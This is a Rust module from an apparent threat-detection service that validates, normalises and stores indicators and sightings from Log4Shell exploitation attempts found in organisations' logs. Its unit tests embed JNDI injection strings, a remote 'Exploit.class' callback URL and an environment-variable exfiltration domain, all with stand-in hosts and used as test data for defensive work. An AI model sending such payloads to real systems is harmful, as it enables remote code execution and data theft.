//! Indicators and sightings: what `vigilo logs --upload` reports from the
//! exploitation attempts found in an organisation's logs.
//!
//! An upload ([`Store::upload_sightings`]) names the sensor (the host that
//! ran the detector) and a list of [`Indicator`]s, each with its hit count
//! and first/last seen. In one transaction it records one *sighting* per
//! indicator ("seen N times between first and last by this sensor") and
//! updates the organisation's *indicator* totals, keyed by (organisation,
//! kind, value, role): the count adds up, first/last seen widen, the rule
//! codes are united, and the first example payload is kept. Values are
//! normalised ([`normalize_value`]) before they are keyed, so `Evil.Example.`
//! and `evil.example` are one indicator. Every read is scoped to one
//! organisation.

use std::collections::{BTreeMap, HashMap};
use std::net::{IpAddr, Ipv4Addr, Ipv6Addr};

use sqlx::Row;
use sqlx::any::AnyRow;
use vigilo_core::indicator::{Indicator, IndicatorRole, Observable, ObservableKind};

use crate::{Actor, DbContext as _, Result, Store, StoreError, now_micros};

/// Most indicators one upload may hold.
pub const MAX_UPLOAD_INDICATORS: usize = 10_000;
/// Longest sensor name, in bytes.
pub const MAX_SENSOR: usize = 255;
/// Longest observable value (a URL, mostly), in bytes.
pub const MAX_VALUE: usize = 4096;
/// Longest example payload, in bytes.
pub const MAX_EXAMPLE: usize = 4096;
/// Most rule codes one indicator of an upload may name.
pub const MAX_RULES: usize = 64;
/// Longest rule code, in bytes.
pub const MAX_RULE: usize = 64;

/// Rows per multi-row statement (13 parameters each at most, well under both
/// backends' bind limits).
const BATCH: usize = 250;

/// What an upload did.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct UploadSummary {
    /// Groups the upload's sightings (UUIDv7).
    pub upload_id: String,
    /// Distinct indicators the upload reported (new or updated).
    pub indicators: usize,
    /// Of those, how many were new to the organisation.
    pub created: usize,
    /// Sightings recorded: one per distinct indicator.
    pub sightings: usize,
    /// Hits, summed over the upload.
    pub hits: i64,
}

/// An indicator as stored: one observable in one role, with its totals.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct StoredIndicator {
    pub id: String,
    pub org_id: String,
    pub kind: ObservableKind,
    /// Normalised ([`normalize_value`]).
    pub value: String,
    pub role: IndicatorRole,
    /// Rule codes over all uploads, sorted, without duplicates.
    pub rules: Vec<String>,
    /// Earliest hit over all uploads (micros), when any upload knew.
    pub first_seen: Option<i64>,
    /// Latest hit over all uploads (micros), when any upload knew.
    pub last_seen: Option<i64>,
    /// Hits over all uploads.
    pub count: i64,
    /// Uploads that reported it.
    pub sightings: i64,
    /// The first decoded payload that named it.
    pub example: String,
    /// First reported (micros).
    pub created_at: i64,
    /// Last reported (micros).
    pub updated_at: i64,
}

/// One upload's report of one indicator.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct StoredSighting {
    pub id: String,
    pub org_id: String,
    pub upload_id: String,
    pub indicator_id: String,
    /// The indicator's observable and role, for display.
    pub kind: ObservableKind,
    pub value: String,
    pub role: IndicatorRole,
    /// The host that ran the detector.
    pub sensor: String,
    pub count: i64,
    pub first_seen: Option<i64>,
    pub last_seen: Option<i64>,
    /// When the upload was stored (micros).
    pub uploaded_at: i64,
    /// The actor of the upload.
    pub uploaded_by: String,
}

/// Which indicators to list; every member narrows the list.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct IndicatorFilter {
    pub role: Option<IndicatorRole>,
    pub kind: Option<ObservableKind>,
    /// Last seen at or after this time (micros); indicators whose hits had no
    /// time are left out.
    pub since: Option<i64>,
    /// A substring of the value, compared case-insensitively.
    pub q: Option<String>,
}

/// Which sightings to list; every member narrows the list.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct SightingFilter {
    /// One indicator's sightings.
    pub indicator: Option<String>,
    /// One sensor's sightings.
    pub sensor: Option<String>,
    /// One upload's sightings.
    pub upload: Option<String>,
}

/// A page of a list ordered by id: the rows with an id after `after`, at
/// most `limit` of them.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Page {
    pub after: Option<String>,
    pub limit: i64,
}

impl Page {
    /// The first page of at most `limit` rows.
    pub fn first(limit: i64) -> Page {
        Page { after: None, limit }
    }
}

// ----- validation -----

/// Whether `s` is a host name: dot-separated labels of 1-63 bytes of
/// letters (any script), digits, `-` and `_`, at most 253 bytes in all.
fn is_domain_name(s: &str) -> bool {
    !s.is_empty()
        && s.len() <= 253
        && s.split('.').all(|label| {
            !label.is_empty()
                && label.len() <= 63
                && label
                    .chars()
                    .all(|c| c.is_alphanumeric() || c == '-' || c == '_')
        })
}

/// The host of a URL's authority (`user@host:port`), brackets kept for IPv6.
fn authority_host(authority: &str) -> &str {
    let host_port = authority.rsplit_once('@').map_or(authority, |(_, h)| h);
    if host_port.starts_with('[') {
        return match host_port.find(']') {
            Some(end) => &host_port[..=end],
            None => host_port,
        };
    }
    match host_port.rsplit_once(':') {
        Some((host, port)) if port.bytes().all(|b| b.is_ascii_digit()) => host,
        _ => host_port,
    }
}

/// Checks an observable value for its kind and returns its normalised form
/// (the form indicators are keyed by): a domain name lower-cased without a
/// trailing dot, an address in its canonical text form, a URL as given. The
/// error says what is wrong, for the client.
pub fn normalize_value(kind: ObservableKind, value: &str) -> std::result::Result<String, String> {
    if value.is_empty() {
        return Err("must not be empty".into());
    }
    if value.len() > MAX_VALUE {
        return Err(format!(
            "{} bytes, longer than the limit of {MAX_VALUE}",
            value.len()
        ));
    }
    if value.chars().any(|c| c.is_whitespace() || c.is_control()) {
        return Err("must not contain white space or control characters".into());
    }
    match kind {
        ObservableKind::DomainName => {
            if value.parse::<IpAddr>().is_ok() {
                return Err(format!(
                    "an IP address, not a domain name: use kind {}",
                    if value.contains(':') {
                        ObservableKind::Ipv6Addr
                    } else {
                        ObservableKind::Ipv4Addr
                    }
                ));
            }
            let bare = value.strip_suffix('.').unwrap_or(value);
            match Observable::host(bare) {
                Some(o) if o.kind == ObservableKind::DomainName && is_domain_name(bare) => {
                    Ok(o.value)
                }
                _ => Err("not a domain name".into()),
            }
        }
        ObservableKind::Ipv4Addr => match value.parse::<Ipv4Addr>() {
            Ok(a) => Ok(a.to_string()),
            Err(_) if value.parse::<Ipv6Addr>().is_ok() => {
                Err("an IPv6 address: use kind ipv6-addr".into())
            }
            Err(_) => Err("not an IPv4 address".into()),
        },
        ObservableKind::Ipv6Addr => match Observable::host(value) {
            Some(o) if o.kind == ObservableKind::Ipv6Addr => Ok(o.value),
            Some(o) if o.kind == ObservableKind::Ipv4Addr => {
                Err("an IPv4 address: use kind ipv4-addr".into())
            }
            _ => Err("not an IPv6 address".into()),
        },
        ObservableKind::Url => {
            let Some((scheme, rest)) = value.split_once("://") else {
                return Err("not a URL (expected scheme://host…)".into());
            };
            let scheme_ok = scheme
                .bytes()
                .next()
                .is_some_and(|b| b.is_ascii_alphabetic())
                && scheme
                    .bytes()
                    .all(|b| b.is_ascii_alphanumeric() || b"+.-".contains(&b));
            if !scheme_ok {
                return Err(format!("not a URL: invalid scheme {scheme:?}"));
            }
            let authority = rest.split(['/', '?', '#']).next().unwrap_or_default();
            let host = authority_host(authority);
            let bare = host.strip_suffix('.').unwrap_or(host);
            let ok = match Observable::host(bare) {
                Some(o) if o.kind == ObservableKind::DomainName => {
                    !bare.starts_with('[') && is_domain_name(bare)
                }
                Some(_) => true,
                None => false,
            };
            if ok {
                Ok(value.to_owned())
            } else {
                Err(format!("not a URL: invalid host {host:?}"))
            }
        }
    }
}

/// Checks a rule code: 1-64 bytes of ASCII letters, digits, `-`, `_`, `.`
/// and `:` (the detector's codes are kebab-case, `log4shell-jndi`).
pub fn check_rule(rule: &str) -> std::result::Result<(), String> {
    if rule.is_empty() {
        return Err("must not be empty".into());
    }
    if rule.len() > MAX_RULE {
        return Err(format!(
            "{} bytes, longer than the limit of {MAX_RULE}",
            rule.len()
        ));
    }
    if !rule
        .bytes()
        .all(|b| b.is_ascii_alphanumeric() || b"-_.:".contains(&b))
    {
        return Err("must be ASCII letters, digits, '-', '_', '.' and ':'".into());
    }
    Ok(())
}

/// Checks a sensor name: 1-255 bytes, no control characters.
pub fn check_sensor(sensor: &str) -> std::result::Result<(), String> {
    if sensor.trim().is_empty() {
        return Err("must not be empty".into());
    }
    if sensor.len() > MAX_SENSOR {
        return Err(format!(
            "{} bytes, longer than the limit of {MAX_SENSOR}",
            sensor.len()
        ));
    }
    if sensor.chars().any(char::is_control) {
        return Err("must not contain control characters".into());
    }
    Ok(())
}

/// Checks an example payload: at most 4 KiB, no NUL (PostgreSQL's `TEXT`
/// cannot hold it).
pub fn check_example(example: &str) -> std::result::Result<(), String> {
    if example.len() > MAX_EXAMPLE {
        return Err(format!(
            "{} bytes, longer than the limit of {MAX_EXAMPLE}",
            example.len()
        ));
    }
    if example.contains('\0') {
        return Err("must not contain NUL characters".into());
    }
    Ok(())
}

/// An indicator of an upload, validated and normalised.
#[derive(Debug, Clone)]
struct Incoming {
    kind: ObservableKind,
    value: String,
    role: IndicatorRole,
    rules: Vec<String>,
    count: i64,
    first_seen: Option<i64>,
    last_seen: Option<i64>,
    example: String,
}

/// Validates an upload (the hub checks the same first, naming each bad
/// field's JSON pointer; this is the store's own guard) and folds indicators
/// that normalise to the same (kind, value, role) into one, in key order.
fn validate(sensor: &str, indicators: &[Indicator]) -> Result<Vec<Incoming>> {
    check_sensor(sensor).map_err(|m| StoreError::invalid("sensor", m))?;
    if indicators.len() > MAX_UPLOAD_INDICATORS {
        return Err(StoreError::invalid(
            "indicators",
            format!(
                "{} indicators, more than the limit of {MAX_UPLOAD_INDICATORS}",
                indicators.len()
            ),
        ));
    }
    let bad = |i: usize, member: &str, m: String| {
        StoreError::invalid("indicators", format!("indicators[{i}].{member}: {m}"))
    };
    let mut merged: BTreeMap<(IndicatorRole, ObservableKind, String), Incoming> = BTreeMap::new();
    for (i, ind) in indicators.iter().enumerate() {
        let kind = ind.observable.kind;
        let value = normalize_value(kind, &ind.observable.value).map_err(|m| bad(i, "value", m))?;
        if ind.rules.len() > MAX_RULES {
            return Err(bad(i, "rules", format!("more than {MAX_RULES} rule codes")));
        }
        for r in &ind.rules {
            check_rule(r).map_err(|m| bad(i, "rules", m))?;
        }
        if ind.count == 0 {
            return Err(bad(i, "count", "must be at least 1".into()));
        }
        let count =
            i64::try_from(ind.count).map_err(|_| bad(i, "count", "larger than 2^63 - 1".into()))?;
        let first_seen = ind.first_seen.map(|t| t.as_microsecond());
        let last_seen = ind.last_seen.map(|t| t.as_microsecond());
        if let (Some(f), Some(l)) = (first_seen, last_seen) {
            if f > l {
                return Err(bad(i, "first_seen", "later than last_seen".into()));
            }
        }
        check_example(&ind.example).map_err(|m| bad(i, "example", m))?;
        let mut rules = ind.rules.clone();
        rules.sort();
        rules.dedup();
        let one = Incoming {
            kind,
            value: value.clone(),
            role: ind.role,
            rules,
            count,
            first_seen,
            last_seen,
            example: ind.example.clone(),
        };
        match merged.entry((ind.role, kind, value)) {
            std::collections::btree_map::Entry::Vacant(e) => {
                e.insert(one);
            }
            std::collections::btree_map::Entry::Occupied(mut e) => {
                let acc = e.get_mut();
                acc.count = acc.count.saturating_add(one.count);
                acc.rules = union(&acc.rules, &one.rules);
                acc.first_seen = min_opt(acc.first_seen, one.first_seen);
                acc.last_seen = max_opt(acc.last_seen, one.last_seen);
                if acc.example.is_empty() {
                    acc.example = one.example;
                }
            }
        }
    }
    Ok(merged.into_values().collect())
}

fn union(a: &[String], b: &[String]) -> Vec<String> {
    let mut out: Vec<String> = a.iter().chain(b).cloned().collect();
    out.sort();
    out.dedup();
    out
}

fn min_opt(a: Option<i64>, b: Option<i64>) -> Option<i64> {
    match (a, b) {
        (Some(x), Some(y)) => Some(x.min(y)),
        (x, None) => x,
        (None, y) => y,
    }
}

fn max_opt(a: Option<i64>, b: Option<i64>) -> Option<i64> {
    match (a, b) {
        (Some(x), Some(y)) => Some(x.max(y)),
        (x, None) => x,
        (None, y) => y,
    }
}

// ----- rows -----

const INDICATOR_COLUMNS: &str = "i.id, i.org_id, i.kind, i.value, i.role, i.rules, i.first_seen, \
     i.last_seen, i.count, i.sightings, i.example, i.created_at, i.updated_at";

fn parse_kind(s: &str) -> Result<ObservableKind> {
    ObservableKind::parse(s)
        .ok_or_else(|| StoreError::Invalid(format!("stored indicator has unknown kind {s:?}")))
}

fn parse_role(s: &str) -> Result<IndicatorRole> {
    IndicatorRole::parse(s)
        .ok_or_else(|| StoreError::Invalid(format!("stored indicator has unknown role {s:?}")))
}

fn indicator_from_row(r: &AnyRow) -> Result<StoredIndicator> {
    let get = |r: &AnyRow| -> std::result::Result<_, sqlx::Error> {
        Ok((
            r.try_get::<String, _>(2)?,
            r.try_get::<String, _>(4)?,
            r.try_get::<String, _>(5)?,
        ))
    };
    let (kind, role, rules) = get(r).ctx("decoding an indicator")?;
    let rules: Vec<String> = serde_json::from_str(&rules).map_err(|e| {
        StoreError::Invalid(format!("stored indicator rules are not a JSON list: {e}"))
    })?;
    let rest = |r: &AnyRow| -> std::result::Result<StoredIndicator, sqlx::Error> {
        Ok(StoredIndicator {
            id: r.try_get(0)?,
            org_id: r.try_get(1)?,
            kind: ObservableKind::DomainName,
            value: r.try_get(3)?,
            role: IndicatorRole::Callback,
            rules: Vec::new(),
            first_seen: r.try_get(6)?,
            last_seen: r.try_get(7)?,
            count: r.try_get(8)?,
            sightings: r.try_get(9)?,
            example: r.try_get(10)?,
            created_at: r.try_get(11)?,
            updated_at: r.try_get(12)?,
        })
    };
    let mut ind = rest(r).ctx("decoding an indicator")?;
    ind.kind = parse_kind(&kind)?;
    ind.role = parse_role(&role)?;
    ind.rules = rules;
    Ok(ind)
}

const SIGHTING_COLUMNS: &str = "s.id, s.org_id, s.upload_id, s.indicator_id, i.kind, i.value, \
     i.role, s.sensor, s.count, s.first_seen, s.last_seen, s.uploaded_at, s.uploaded_by";

fn sighting_from_row(r: &AnyRow) -> Result<StoredSighting> {
    let row = |r: &AnyRow| -> std::result::Result<(StoredSighting, String, String), sqlx::Error> {
        Ok((
            StoredSighting {
                id: r.try_get(0)?,
                org_id: r.try_get(1)?,
                upload_id: r.try_get(2)?,
                indicator_id: r.try_get(3)?,
                kind: ObservableKind::DomainName,
                value: r.try_get(5)?,
                role: IndicatorRole::Callback,
                sensor: r.try_get(7)?,
                count: r.try_get(8)?,
                first_seen: r.try_get(9)?,
                last_seen: r.try_get(10)?,
                uploaded_at: r.try_get(11)?,
                uploaded_by: r.try_get(12)?,
            },
            r.try_get(4)?,
            r.try_get(6)?,
        ))
    };
    let (mut s, kind, role) = row(r).ctx("decoding a sighting")?;
    s.kind = parse_kind(&kind)?;
    s.role = parse_role(&role)?;
    Ok(s)
}

/// `$first, $first+1, …` for `n` parameters.
fn placeholders(first: usize, n: usize) -> String {
    (first..first + n)
        .map(|i| format!("${i}"))
        .collect::<Vec<_>>()
        .join(", ")
}

/// `($first), ($first+1), …` for `rows` one-column rows.
fn value_rows_from(first: usize, rows: usize) -> String {
    (first..first + rows)
        .map(|i| format!("(${i})"))
        .collect::<Vec<_>>()
        .join(", ")
}

/// `($1, …, $k), ($k+1, …)` for `rows` rows of `k` parameters.
fn value_rows(rows: usize, k: usize) -> String {
    (0..rows)
        .map(|r| format!("({})", placeholders(r * k + 1, k)))
        .collect::<Vec<_>>()
        .join(", ")
}

/// `value` escaped for `LIKE … ESCAPE '\'`.
fn like_escape(value: &str) -> String {
    let mut out = String::with_capacity(value.len());
    for c in value.chars() {
        if matches!(c, '\\' | '%' | '_') {
            out.push('\\');
        }
        out.push(c);
    }
    out
}

impl Store {
    /// Stores one upload of `vigilo logs` for `org_id`: one sighting per
    /// indicator (by `sensor`) and the organisation's indicator totals, in
    /// one transaction with its audit event (`sightings.upload`).
    ///
    /// Indicators are keyed by (kind, normalised value, role); those of one
    /// upload that share a key are folded first. For each, a new key creates
    /// the indicator, a known one adds the count, widens first/last seen,
    /// unites the rule codes and keeps its example (or takes this one when it
    /// had none). Invalid input is a [`StoreError::InvalidField`] and stores
    /// nothing; an unknown organisation is [`StoreError::NotFound`].
    pub async fn upload_sightings(
        &self,
        actor: &Actor,
        org_id: &str,
        sensor: &str,
        indicators: &[Indicator],
    ) -> Result<UploadSummary> {
        let incoming = validate(sensor, indicators)?;
        let sensor = sensor.trim();
        let now = now_micros();
        let upload_id = uuid::Uuid::now_v7().to_string();
        let mut tx = self.begin_write().await?;
        let org_known = sqlx::query("SELECT id FROM orgs WHERE id = $1")
            .bind(org_id)
            .fetch_optional(&mut *tx)
            .await
            .ctx("reading an organisation")?
            .is_some();
        if !org_known {
            return Err(StoreError::NotFound {
                kind: "organisation",
                id: org_id.to_owned(),
            });
        }

        // The organisation's indicators this upload touches, by key.
        let mut by_kind: BTreeMap<ObservableKind, Vec<&str>> = BTreeMap::new();
        for ind in &incoming {
            by_kind.entry(ind.kind).or_default().push(&ind.value);
        }
        let mut existing: HashMap<(IndicatorRole, ObservableKind, String), StoredIndicator> =
            HashMap::new();
        for (kind, values) in &by_kind {
            let mut values = values.clone();
            values.sort_unstable();
            values.dedup();
            for chunk in values.chunks(BATCH) {
                // The values as a table rather than `value IN (…)`: PostgreSQL,
                // before it has statistics on a freshly filled table, plans an
                // IN list of parameters as a filter over every indicator of the
                // kind (2.3 s to re-upload 10,000 indicators, against 0.3 s
                // this way). `CROSS JOIN` makes SQLite loop over the values
                // and look each up in the unique index; PostgreSQL plans it as
                // any inner join.
                let sql = format!(
                    "SELECT {INDICATOR_COLUMNS} FROM (VALUES {}) v CROSS JOIN indicators i \
                     WHERE i.org_id = $1 AND i.kind = $2 AND i.value = v.column1",
                    value_rows_from(3, chunk.len())
                );
                let mut query = sqlx::query(&sql).bind(org_id).bind(kind.as_str());
                for v in chunk {
                    query = query.bind(*v);
                }
                let rows = query.fetch_all(&mut *tx).await.ctx("reading indicators")?;
                for r in &rows {
                    let ind = indicator_from_row(r)?;
                    existing.insert((ind.role, ind.kind, ind.value.clone()), ind);
                }
            }
        }

        // The new totals, computed here under the write lock.
        let mut created = 0usize;
        let mut hits: i64 = 0;
        let rows: Vec<(StoredIndicator, &Incoming)> = incoming
            .iter()
            .map(|inc| {
                hits = hits.saturating_add(inc.count);
                let key = (inc.role, inc.kind, inc.value.clone());
                let row = match existing.remove(&key) {
                    Some(old) => StoredIndicator {
                        rules: union(&old.rules, &inc.rules),
                        first_seen: min_opt(old.first_seen, inc.first_seen),
                        last_seen: max_opt(old.last_seen, inc.last_seen),
                        count: old.count.saturating_add(inc.count),
                        sightings: old.sightings.saturating_add(1),
                        example: if old.example.is_empty() {
                            inc.example.clone()
                        } else {
                            old.example.clone()
                        },
                        updated_at: now,
                        ..old
                    },
                    None => {
                        created += 1;
                        StoredIndicator {
                            id: uuid::Uuid::now_v7().to_string(),
                            org_id: org_id.to_owned(),
                            kind: inc.kind,
                            value: inc.value.clone(),
                            role: inc.role,
                            rules: inc.rules.clone(),
                            first_seen: inc.first_seen,
                            last_seen: inc.last_seen,
                            count: inc.count,
                            sightings: 1,
                            example: inc.example.clone(),
                            created_at: now,
                            updated_at: now,
                        }
                    }
                };
                (row, inc)
            })
            .collect();

        for batch in rows.chunks(BATCH) {
            let sql = format!(
                "INSERT INTO indicators (id, org_id, kind, value, role, rules, first_seen, \
                 last_seen, count, sightings, example, created_at, updated_at) VALUES {} \
                 ON CONFLICT (org_id, kind, value, role) DO UPDATE SET rules = excluded.rules, \
                 first_seen = excluded.first_seen, last_seen = excluded.last_seen, \
                 count = excluded.count, sightings = excluded.sightings, \
                 example = excluded.example, updated_at = excluded.updated_at",
                value_rows(batch.len(), 13)
            );
            let mut query = sqlx::query(&sql);
            for (row, _) in batch {
                let rules = serde_json::to_string(&row.rules)
                    .map_err(|e| StoreError::Invalid(format!("serialising rule codes: {e}")))?;
                query = query
                    .bind(row.id.clone())
                    .bind(row.org_id.clone())
                    .bind(row.kind.as_str())
                    .bind(row.value.clone())
                    .bind(row.role.as_str())
                    .bind(rules)
                    .bind(row.first_seen)
                    .bind(row.last_seen)
                    .bind(row.count)
                    .bind(row.sightings)
                    .bind(row.example.clone())
                    .bind(row.created_at)
                    .bind(row.updated_at);
            }
            query.execute(&mut *tx).await.ctx("storing indicators")?;
        }

        for batch in rows.chunks(BATCH) {
            let sql = format!(
                "INSERT INTO sightings (id, org_id, upload_id, indicator_id, sensor, count, \
                 first_seen, last_seen, uploaded_at, uploaded_by) VALUES {}",
                value_rows(batch.len(), 10)
            );
            let mut query = sqlx::query(&sql);
            for (row, inc) in batch {
                query = query
                    .bind(uuid::Uuid::now_v7().to_string())
                    .bind(org_id.to_owned())
                    .bind(upload_id.clone())
                    .bind(row.id.clone())
                    .bind(sensor.to_owned())
                    .bind(inc.count)
                    .bind(inc.first_seen)
                    .bind(inc.last_seen)
                    .bind(now)
                    .bind(actor.actor.clone());
            }
            query.execute(&mut *tx).await.ctx("storing sightings")?;
        }

        let summary = UploadSummary {
            upload_id,
            indicators: rows.len(),
            created,
            sightings: rows.len(),
            hits,
        };
        self.append_audit(
            &mut tx,
            actor,
            Some(org_id),
            "sightings.upload",
            &format!("upload:{}", summary.upload_id),
            Some(serde_json::json!({
                "sensor": sensor, "indicators": summary.indicators,
                "created": summary.created, "sightings": summary.sightings,
                "hits": summary.hits,
            })),
        )
        .await?;
        tx.commit().await.ctx("uploading sightings")?;
        Ok(summary)
    }

    /// One indicator of the organisation by id; `None` when there is none,
    /// or it belongs to another organisation.
    pub async fn indicator(&self, org_id: &str, id: &str) -> Result<Option<StoredIndicator>> {
        sqlx::query(&format!(
            "SELECT {INDICATOR_COLUMNS} FROM indicators i WHERE i.id = $1 AND i.org_id = $2"
        ))
        .bind(id)
        .bind(org_id)
        .fetch_optional(self.pool())
        .await
        .ctx("reading an indicator")?
        .map(|r| indicator_from_row(&r))
        .transpose()
    }

    /// A page of the organisation's indicators that pass `filter`, in the
    /// order they were first reported (by id).
    pub async fn list_indicators(
        &self,
        org_id: &str,
        filter: &IndicatorFilter,
        page: &Page,
    ) -> Result<Vec<StoredIndicator>> {
        let mut sql = format!("SELECT {INDICATOR_COLUMNS} FROM indicators i WHERE i.org_id = $1");
        let mut n = 1;
        let mut next = |sql: &mut String, clause: &str| {
            n += 1;
            sql.push_str(&clause.replace("$?", &format!("${n}")));
        };
        if filter.role.is_some() {
            next(&mut sql, " AND i.role = $?");
        }
        if filter.kind.is_some() {
            next(&mut sql, " AND i.kind = $?");
        }
        if filter.since.is_some() {
            next(&mut sql, " AND i.last_seen >= $?");
        }
        if filter.q.is_some() {
            next(&mut sql, " AND LOWER(i.value) LIKE $? ESCAPE '\\'");
        }
        if page.after.is_some() {
            next(&mut sql, " AND i.id > $?");
        }
        next(&mut sql, " ORDER BY i.id LIMIT $?");
        let mut query = sqlx::query(&sql).bind(org_id);
        if let Some(role) = filter.role {
            query = query.bind(role.as_str());
        }
        if let Some(kind) = filter.kind {
            query = query.bind(kind.as_str());
        }
        if let Some(since) = filter.since {
            query = query.bind(since);
        }
        if let Some(q) = &filter.q {
            query = query.bind(format!("%{}%", like_escape(&q.to_lowercase())));
        }
        if let Some(after) = &page.after {
            query = query.bind(after.clone());
        }
        let rows = query
            .bind(page.limit)
            .fetch_all(self.pool())
            .await
            .ctx("listing indicators")?;
        rows.iter().map(indicator_from_row).collect()
    }

    /// A page of the organisation's sightings that pass `filter`, in upload
    /// order (by id).
    pub async fn list_sightings(
        &self,
        org_id: &str,
        filter: &SightingFilter,
        page: &Page,
    ) -> Result<Vec<StoredSighting>> {
        let mut sql = format!(
            "SELECT {SIGHTING_COLUMNS} FROM sightings s JOIN indicators i ON i.id = s.indicator_id \
             WHERE s.org_id = $1"
        );
        let mut n = 1;
        let mut next = |sql: &mut String, clause: &str| {
            n += 1;
            sql.push_str(&clause.replace("$?", &format!("${n}")));
        };
        if filter.indicator.is_some() {
            next(&mut sql, " AND s.indicator_id = $?");
        }
        if filter.sensor.is_some() {
            next(&mut sql, " AND s.sensor = $?");
        }
        if filter.upload.is_some() {
            next(&mut sql, " AND s.upload_id = $?");
        }
        if page.after.is_some() {
            next(&mut sql, " AND s.id > $?");
        }
        next(&mut sql, " ORDER BY s.id LIMIT $?");
        let mut query = sqlx::query(&sql).bind(org_id);
        for v in [
            &filter.indicator,
            &filter.sensor,
            &filter.upload,
            &page.after,
        ]
        .into_iter()
        .flatten()
        {
            query = query.bind(v.clone());
        }
        let rows = query
            .bind(page.limit)
            .fetch_all(self.pool())
            .await
            .ctx("listing sightings")?;
        rows.iter().map(sighting_from_row).collect()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn values_are_checked_and_normalised_per_kind() {
        use ObservableKind::*;
        let ok = |k, v: &str| normalize_value(k, v).unwrap_or_else(|e| panic!("{v}: {e}"));
        assert_eq!(ok(DomainName, "Evil.Example."), "evil.example");
        assert_eq!(ok(DomainName, "attacker"), "attacker");
        assert_eq!(
            ok(DomainName, "_ldap.xn--bcher-kva.example"),
            "_ldap.xn--bcher-kva.example"
        );
        assert_eq!(ok(Ipv4Addr, "192.0.2.1"), "192.0.2.1");
        assert_eq!(ok(Ipv6Addr, "2001:DB8:0:0::1"), "2001:db8::1");
        assert_eq!(ok(Ipv6Addr, "[::1]"), "::1");
        assert_eq!(
            ok(Url, "http://198.51.100.7:8080/Exploit.class"),
            "http://198.51.100.7:8080/Exploit.class"
        );
        assert_eq!(
            ok(Url, "ldap://u@[2001:db8::1]:1389/a"),
            "ldap://u@[2001:db8::1]:1389/a"
        );
        assert_eq!(ok(Url, "http://evil.example"), "http://evil.example");
        for (kind, bad) in [
            (DomainName, ""),
            (DomainName, "192.0.2.1"),
            (DomainName, "::1"),
            (DomainName, "evil example"),
            (DomainName, "evil..example"),
            (DomainName, "${env:USER}.evil.example"),
            (DomainName, "evil.example/a"),
            (DomainName, "evil.example:1389"),
            (DomainName, "[evil.example]"),
            (DomainName, &"a".repeat(64)),
            (DomainName, &format!("{}.example", "a.".repeat(130))),
            (Ipv4Addr, "192.0.2.256"),
            (Ipv4Addr, "::1"),
            (Ipv4Addr, "evil.example"),
            (Ipv6Addr, "192.0.2.1"),
            (Ipv6Addr, "2001:db8::g"),
            (Url, "evil.example/a"),
            (Url, "1http://evil.example/"),
            (Url, "http:///a"),
            (Url, "http://${jndi:x}/"),
            (Url, "http://evil example/"),
            (Url, &format!("http://e.example/{}", "a".repeat(MAX_VALUE))),
        ] {
            assert!(
                normalize_value(kind, bad).is_err(),
                "{kind} {bad:?} accepted"
            );
        }
    }

    #[test]
    fn rules_sensors_and_examples() {
        assert!(check_rule("log4shell-jndi").is_ok());
        assert!(check_rule("").is_err());
        assert!(check_rule("a b").is_err());
        assert!(check_rule(&"r".repeat(MAX_RULE + 1)).is_err());
        assert!(check_sensor("web-01").is_ok());
        assert!(check_sensor(" ").is_err());
        assert!(check_sensor("a\nb").is_err());
        assert!(check_example(&"x".repeat(MAX_EXAMPLE)).is_ok());
        assert!(check_example(&"x".repeat(MAX_EXAMPLE + 1)).is_err());
        assert!(check_example("a\0").is_err());
    }

    fn indicator(value: &str, count: u64, first: Option<&str>, last: Option<&str>) -> Indicator {
        Indicator {
            observable: Observable {
                kind: ObservableKind::DomainName,
                value: value.into(),
            },
            role: IndicatorRole::Callback,
            rules: vec!["log4shell-jndi".into()],
            count,
            first_seen: first.map(|s| s.parse().unwrap_or_default()),
            last_seen: last.map(|s| s.parse().unwrap_or_default()),
            example: String::new(),
        }
    }

    #[test]
    fn one_upload_folds_what_normalises_alike() {
        let mut b = indicator(
            "EVIL.example.",
            2,
            Some("2021-12-09T00:00:00Z"),
            Some("2021-12-09T00:00:00Z"),
        );
        b.rules = vec!["log4shell-jndi-exfil".into(), "log4shell-jndi".into()];
        b.example = "${jndi:ldap://EVIL.example./a}".into();
        let folded = validate(
            "web-01",
            &[
                indicator("evil.example", 1, None, Some("2021-12-10T00:00:00Z")),
                b,
            ],
        )
        .unwrap_or_default();
        assert_eq!(folded.len(), 1);
        let f = &folded[0];
        assert_eq!(f.value, "evil.example");
        assert_eq!(f.count, 3);
        assert_eq!(f.rules, ["log4shell-jndi", "log4shell-jndi-exfil"]);
        assert_eq!(
            f.first_seen,
            "2021-12-09T00:00:00Z"
                .parse::<jiff::Timestamp>()
                .ok()
                .map(|t| t.as_microsecond())
        );
        assert_eq!(
            f.last_seen,
            "2021-12-10T00:00:00Z"
                .parse::<jiff::Timestamp>()
                .ok()
                .map(|t| t.as_microsecond())
        );
        assert_eq!(f.example, "${jndi:ldap://EVIL.example./a}");
    }

    #[test]
    fn invalid_uploads_name_the_member() {
        let field = |sensor: &str, list: &[Indicator]| match validate(sensor, list) {
            Err(StoreError::InvalidField { field, message }) => format!("{field}: {message}"),
            other => format!("{other:?}"),
        };
        assert!(field("", &[]).starts_with("sensor:"));
        let zero = indicator("evil.example", 0, None, None);
        assert_eq!(
            field("s", &[indicator("a.example", 1, None, None), zero]),
            "indicators: indicators[1].count: must be at least 1"
        );
        let backwards = indicator(
            "evil.example",
            1,
            Some("2021-12-10T00:00:00Z"),
            Some("2021-12-09T00:00:00Z"),
        );
        assert!(field("s", &[backwards]).contains("indicators[0].first_seen"));
        assert!(field("s", &[indicator("evil..example", 1, None, None)]).contains("[0].value"));
        let many = vec![indicator("a.example", 1, None, None); MAX_UPLOAD_INDICATORS + 1];
        assert!(field("s", &many).contains("more than the limit"));
    }

    #[test]
    fn like_patterns_are_escaped() {
        assert_eq!(like_escape(r"a%b_c\d"), r"a\%b\_c\\d");
        assert_eq!(value_rows(2, 2), "($1, $2), ($3, $4)");
        assert_eq!(placeholders(3, 2), "$3, $4");
        assert_eq!(value_rows_from(3, 2), "($3), ($4)");
    }
}
